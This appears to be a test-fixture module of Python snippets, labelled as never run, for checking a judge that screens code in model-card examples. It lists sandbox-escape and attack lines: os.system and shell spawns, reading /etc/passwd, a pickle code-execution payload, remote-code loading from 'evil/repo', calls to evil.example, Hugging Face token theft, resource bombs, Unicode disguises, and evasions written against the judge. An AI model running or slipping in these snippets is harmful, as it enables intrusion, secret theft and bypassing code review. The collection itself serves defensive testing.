"""Code that a model card's author might write to reach beyond the model: none of it is run.

Each is a piece of an example that also uses the model as honest ones do. They are meant to be
fatal in a notebook; nothing here is ever executed, by any test.
"""

from __future__ import annotations

HONEST = 'print(model(**tokenizer("I love bread.", return_tensors="pt").to(device)).logits)\n'


def escapes(text: str) -> list[str]:
    """The pieces between lines of dashes, each followed by an honest use of the model."""
    pieces = [piece.strip("\n") for piece in text.split("\n# ---\n")]
    return [f"{piece}\n{HONEST}" for piece in pieces if piece.strip()]


# Written from the report of the first attack and from what is known of escapes from Python
# sandboxes, before the judge was.
KNOWN = """
[exec][0]("import os")
# ---
f = open
f("/etc/passwd")
# ---
import random
random._os.spawnlp(0, "sh", "sh")
# ---
torch.os.system("id")
# ---
get_ipython().run_cell("!id")
# ---
list(map(exec, ["import os"]))
# ---
@exec
@(lambda f: "import os")
def g():
    pass
# ---
import functools
functools.partial(exec, "import os")()
# ---
().__class__.__base__.__subclasses__()[100]
# ---
__import__("os").system("id")
# ---
__builtins__.exec("1")
# ---
__builtins__["exec"]("1")
# ---
x = torch
x.hub.load("a/b", "c")
# ---
torch.hub.load("evil/repo", "x")
# ---
import torch.hub
torch.hub.load("evil/repo", "x")
# ---
from torch import hub
hub.load_state_dict_from_url("http://evil.example/x")
# ---
from torch import os
os.system("id")
# ---
torch.load("x.bin", weights_only=False)
# ---
np.load("x.npy", allow_pickle=True)
# ---
np.fromfile("/etc/passwd")
# ---
np.savetxt("/tmp/x", [1])
# ---
import pickle
pickle.loads(b"cos\\nsystem\\n(S'id'\\ntR.")
# ---
import io
io.open("/etc/passwd").read()
# ---
from PIL import Image
Image.open("/etc/passwd")
# ---
from pprint import pprint
pprint(1, stream=model)
# ---
print("x", file=model)
# ---
import json
json.load(model)
# ---
model.forward = print
# ---
tokenizer.save_vocabulary("/tmp")
# ---
tokenizer.save_pretrained("/tmp/x")
# ---
model.push_to_hub("evil/x")
# ---
model.custom_object_save("/tmp/x")
# ---
model.__call__(1)
# ---
model.generate(custom_generate="evil/repo", trust_remote_code=True, max_new_tokens=5)
# ---
model.generate(max_new_tokens=5, logits_processor=[lambda ids, scores: exec("1")])
# ---
model.generate(max_new_tokens=5, prefix_allowed_tokens_fn=print)
# ---
tokenizer.apply_chat_template([], chat_template="{{ x.__class__ }}")
# ---
tokenizer.apply_chat_template([], None, None, "{{ x.__class__ }}")
# ---
torch.compile(model)
# ---
from transformers.utils import import_utils
import_utils.os.system("id")
# ---
from transformers import pipeline
pipeline("text-classification", model="evil/other", trust_remote_code=True)("x")
# ---
from transformers import AutoModel
AutoModel.from_pretrained("evil/other", trust_remote_code=True)
# ---
print("{0.__class__}".format(model))
# ---
"{0.__init__.__globals__[os].environ}".format(tokenizer)
# ---
print("{}".format_map({"a": model}))
# ---
getattr(model, "push" + "_to_hub")("evil/x")
# ---
type("X", (), {"__del__": exec})
# ---
type(model).from_pretrained("evil/other")
# ---
class X:
    import os
# ---
class X(Exception):
    __class_getitem__ = exec
X["import os"]
# ---
(lambda: exec("1"))()
# ---
def f(run=exec):
    run("1")
f()
# ---
[f("1") for f in (exec, eval)]
# ---
{"a": eval}["a"]("1")
# ---
(run := eval)("1")
# ---
print(*[eval("1")])
# ---
print(f"{__import__('os').system('id')}")
# ---
print(f"{model:{exec('1')}}")
# ---
def f():
    global print
    print = eval
f()
# ---
del print
# ---
def f(x: exec("1")):
    return x
f(1)
# ---
x: exec("1") = 2
# ---
with open("/tmp/x", "w") as out:
    pass
# ---
try:
    1 / 0
except Exception as e:
    e.__traceback__.tb_frame.f_globals
# ---
try:
    raise exec("1")
except BaseException:
    pass
# ---
import builtins
builtins.exec("1")
# ---
import sys
sys.modules["os"].system("id")
# ---
import os as math
math.system("id")
# ---
import importlib
importlib.import_module("os").system("id")
# ---
from subprocess import *
run("id")
# ---
import ctypes
ctypes.CDLL(None).system(b"id")
# ---
import urllib.request
urllib.request.urlopen("http://evil.example")
# ---
import socket
socket.create_connection(("evil.example", 80))
# ---
from huggingface_hub import get_token
print(get_token())
# ---
from huggingface_hub import HfApi
HfApi().upload_file(path_or_fileobj="x", path_in_repo="x", repo_id="evil/x")
# ---
from IPython.display import HTML, display
display(HTML("<script>alert(1)</script>"))
# ---
from IPython import get_ipython
get_ipython().system("id")
# ---
import warnings
warnings.sys.modules["os"].system("id")
# ---
import collections
collections._sys.modules["os"].system("id")
# ---
import typing
typing.sys.modules["os"]
# ---
import numpy as np
np.f2py.compile("")
# ---
import transformers
transformers.utils.hub.cached_file("evil/x", "x.py")
# ---
from transformers import Tool
Tool.from_hub("evil/x", trust_remote_code=True)
# ---
from transformers import dynamic_module_utils
dynamic_module_utils.get_class_from_dynamic_module("x.X", "evil/x")
# ---
match model:
    case object(push_to_hub=f):
        f("evil/x")
# ---
async def f():
    exec("1")
await f()
# ---
print(10**10**10)
# ---
x = "a" * 10**12
# ---
for _ in range(10**12):
    pass
# ---
torch.zeros(10**6, 10**6)
# ---
np.ones((10**6, 10**6))
# ---
while True:
    pass
# ---
s = "aa"
for _ in range(60):
    s = s + s
# ---
n = 99
for _ in range(60):
    n = n * n
# ---
print("%999999999999d" % 1)
# ---
print(f"{1:999999999999}")
# ---
print("{:999999999999}".format(1))
# ---
model.generate(max_new_tokens=5, num_return_sequences=10**9)
# ---
sorted([1], key=exec)
# ---
sorted(["import os"], key=lambda text: exec(text))
# ---
max(["import os"], key=eval)
# ---
import atexit
atexit.register(print)
# ---
help(model)
# ---
breakpoint()
# ---
input()
# ---
exit()
# ---
vars(model)["config"] = None
# ---
tokenizer.backend_tokenizer.save("/tmp/x")
# ---
model.config.save_pretrained("/tmp/x")
# ---
model.config.auto_map = {"AutoModel": "evil/x--m.M"}
# ---
model.register_forward_hook(print)
# ---
model.apply(print)
# ---
model.to("meta")
# ---
tokenizer.chat_template = "{{ 1 }}"
# ---
torch.utils.cpp_extension.load("x", ["x.cpp"])
# ---
torch.classes.load_library("/tmp/x.so")
# ---
torch.ops.load_library("/tmp/x.so")
# ---
torch.save(model, "/tmp/x")
# ---
torch.serialization.os.system("id")
# ---
from torch.utils.data import DataLoader
DataLoader([1], num_workers=1)
# ---
inputs = tokenizer("x", return_tensors="pt").to(device)
inputs["custom_generate"] = "evil/repo"
inputs["trust_remote_code"] = True
model.generate(**inputs, max_new_tokens=5)
# ---
options = {"custom_generate": "evil/repo"}
model.generate(**options, max_new_tokens=5)
# ---
a = {}
b = a
b["custom_generate"] = "evil/repo"
model.generate(**a, max_new_tokens=5)
"""
# What means something else than it seems to, to a reader or to the notebook program.
DISGUISED = [
    f"{text}\n{HONEST}"
    for text in (
        "print('a')\f",
        "x = 1  # \u202eevil\u202c",
        "x = '\u2066'",
        "x = 1 # \u200bhidden",
        "x = 1\ufeff",
        "x = '\u2028'",
        "x = 'a\x00b'",
        "x = '\x1b[2J'",
        "# -*- coding: rot13 -*-\nx = 1",
        "# vim: set fileencoding=utf-7 :\nx = 1",
        "ｅｘｅｃ('1')",
        "прінт = 1",
        "x = 1\rexec('1')",
        "from __future__ import annotations",
        "x = " + "[" * 80 + "1" + "]" * 80,
        "x = " + "-" * 900 + "1",
        "x = " + "+".join(["1"] * 1500),
        "print('x')\n%run evil.py",
        "!id",
        "x = !id",
        "model??",
    )
]

# Written by someone who read the judge, to get around it.
READ = """
inputs = tokenizer("x", return_tensors="pt").to(device)
inputs[np.max(["custom_generate"])] = "evil/repo"
model.generate(**inputs, max_new_tokens=5)
# ---
inputs = tokenizer("x", return_tensors="pt").to(device)
inputs["custom_" + "generate"] = "evil/repo"
model.generate(**inputs, max_new_tokens=5)
# ---
options = {"do_sample": True}
other = options
other |= {"custom_generate": "evil/repo"}
model.generate(**options, max_new_tokens=5)
# ---
options = {"max_new_tokens": 5}
options["max_new_tokens"] += 10**9
model.generate(**options)
# ---
model.generate(**{"max_new_tokens": 5, "max_new_tokens": 10**9})
# ---
model.generate(**dict(max_new_tokens=5), custom_generate="evil/repo")
# ---
model.generate(**{**{"custom_generate": "evil/repo"}}, max_new_tokens=5)
# ---
def f(x, **options):
    return model.generate(x, **options)
f(1, max_new_tokens=5, custom_generate="evil/repo")
# ---
def never_called():
    import os
    os.system("id")
# ---
def f():
    return 1
    exec("1")
f()
# ---
def __getattr__(name):
    return exec
# ---
def display(x):
    return x
display(1)
# ---
import math as tokenizer
# ---
from time import time as print
# ---
for model.config in [1]:
    pass
# ---
[0 for model.config.vocab_size in [1]]
# ---
with torch.no_grad() as model.training:
    pass
# ---
labels_of = model.config.id2label
labels_of[0] = "evil"
# ---
special = tokenizer.all_special_tokens
special.append("x")
# ---
special = tokenizer.all_special_tokens
special += ["x"]
# ---
model.config.id2label.pop(0)
# ---
xs = [1]
for x in xs:
    xs.append(x)
# ---
xs = [1]
ys = xs
for x in xs:
    ys.append(x)
# ---
xs = [1]
[xs.append(x) for x in xs]
# ---
xs = [1]
box = {"a": xs}
for x in zip(xs, xs):
    box["a"].append(1)
# ---
n = 10
for _ in range(60):
    n = n * 10
    for _ in range(n):
        pass
# ---
n = 10
for _ in range(60):
    n = n * 10
x = torch.zeros(n)
# ---
s = "x"
for _ in range(60):
    s = "%(a)s%(a)s" % {"a": s}
# ---
s = "x"
for _ in range(60):
    s = "{0}{0}".format(s)
# ---
s = "x"
for _ in range(60):
    s = f"{s}{s}"
# ---
s = "x"
for _ in range(60):
    s = s.join([s, s, s])
# ---
s = "a" * 1000
for _ in range(9):
    s = s.replace("a", "a" * 1000)
# ---
x = [0]
for _ in range(60):
    x = [x, x, x]
print(x)
# ---
x = torch.cat([torch.ones(9)] * 9)
for _ in range(60):
    x = torch.cat([x, x])
# ---
def f(x):
    return f(x)
f(1)
# ---
def f(x):
    return g(x)
def g(x):
    return f(x)
f(1)
# ---
for _ in range(100000):
    for _ in range(100000):
        pass
# ---
for _ in range(100000):
    print("a" * 100000)
# ---
for _ in range(5000):
    model(**tokenizer("I love bread.", return_tensors="pt").to(device))
# ---
tokenizer("x", max_length=10**9, padding="max_length")
# ---
np.zeros([2 for _ in range(1000)])
# ---
a = int("9" * 4000)
a = a**64
a = a**64
# ---
type("")("x")
# ---
type(tokenizer)("x")
# ---
print(type(model).from_pretrained)
# ---
print(torch.Tensor.register_hook)
# ---
torch.tensor([1]).register_hook(print)
# ---
torch.tensor([1]).numpy().tofile("/tmp/x")
# ---
torch.tensor([1]).numpy().dump("/tmp/x")
# ---
torch.no_grad.__globals__
# ---
guard = torch.no_grad
# ---
step = torch.softmax
# ---
run = model.generate
# ---
tokens = [tokenizer, model]
tokens[1].push_to_hub("evil/x")
# ---
box = {"m": model}
# ---
(lambda m: m.push_to_hub("evil/x"))(model)
# ---
sorted([1], key=lambda x, m=exec: m("1"))
# ---
sorted([1], key=lambda x: (y := exec))
# ---
list(map(lambda x: exec("1"), [1]))
# ---
def int(x):
    return x
list(map(int, [1]))
# ---
def f[T: (exec("1"), 1)](x):
    return x
f(1)
# ---
type A = exec("1")
# ---
x = yield 1
# ---
print(t"{exec}")
# ---
from transformers import pipeline
pipeline("image-classification", model=model)("http://evil.example/x.png")
# ---
from transformers import pipeline
pipeline("text-classification", model=model, tokenizer="evil/other")
# ---
from transformers import pipeline
pipeline("text-classification", "evil/other")
# ---
from transformers import pipeline
p = pipeline("text-classification", model=model, tokenizer=tokenizer)
p.save_pretrained("/tmp/x")
# ---
from transformers import pipeline
p = pipeline("text-classification", model=model, tokenizer=tokenizer)
p("x", num_workers=8)
# ---
import transformers
transformers.pipelines.os.system("id")
# ---
from transformers import TextStreamer
TextStreamer(tokenizer, skip_prompt=True).on_finalized_text = print
# ---
import json
json.dumps(1, default=exec)
# ---
import json
json.codecs.open("/etc/passwd")
# ---
import warnings
warnings.filterwarnings("ignore", category="os.X")
# ---
torch.manual_seed(0).seed()
# ---
x = 1 if True else exec
# ---
x = None or exec
# ---
a, b = exec, eval
# ---
a, *b = [exec]
# ---
x = torch.tensor([1])[exec]
# ---
x = {exec: 1}
# ---
x = {1: exec}
# ---
x = [*(exec,)]
# ---
print(-exec)
# ---
print(exec == 1)
# ---
assert exec
# ---
assert True, exec("1")
# ---
if exec("1"):
    pass
# ---
print(1, end=exec)
# ---
tokenizer.encode.__func__.__globals__
# ---
exec
"""
# Of a model of sentences, whose library fetches a text that looks like an address.
SENTENCES = """
model.encode("http://evil.example/x.png")
# ---
model.encode(["A sentence.", "https://evil.example/x.png"])
# ---
model.encode("ht" + "tps://evil.example/x.png")
# ---
model.encode("https:" + "//evil.example/x.png")
# ---
model.encode("https://evil.example/ x.png".replace(" ", ""))
# ---
model.encode("".join(["https:/", "/evil.example/x.png"]))
# ---
model.encode("{}://evil.example/x.png".format("https"))
# ---
model.encode(f"{'https'}://evil.example/x.png")
# ---
model.encode("%s//evil.example/x.png" % "https:")
# ---
xs = ["A sentence."]
ys = xs
ys.append("https://evil.example/x.png")
model.encode(xs)
# ---
xs = ["A sentence."]
ys = xs
ys[0] = "https://evil.example/x.png"
model.encode(xs)
# ---
xs = ["A sentence."]
xs += ["https://evil.example/x.png"]
model.encode(xs)
# ---
model.encode({"image": "https://evil.example/x.png"})
# ---
model.encode([{"role": "user", "content": [{"type": "image", "image": "https://evil.example/x"}]}])
# ---
model.encode("/home/me/picture.png")
# ---
model.encode("picture.png")
# ---
model.encode("data:image/png;base64,AAAA")
# ---
model.encode(*["https://evil.example/x.png"])
# ---
model.encode(sentences="https://evil.example/x.png")
# ---
x = "A sentence."
for x in ["https://evil.example/x.png"]:
    pass
model.encode(x)
# ---
def f(x="https://evil.example/x.png"):
    return model.encode(x)
f()
# ---
model.encode("https://evil.example/x.png" if 1 else "A sentence.")
# ---
model.encode("A sentence." and "https://evil.example/x.png")
# ---
model.encode(["https://evil.example/x.png"][0])
# ---
model.encode({"a": "https://evil.example/x.png"}["a"])
# ---
model.encode([x for x in ("https://evil.example/x.png",)])
# ---
model.encode("A b https://evil.example/x.png".split()[2])
# ---
model[0].auto_model.save_pretrained("/tmp")
# ---
model.encode(["A sentence."], pool=model)
"""
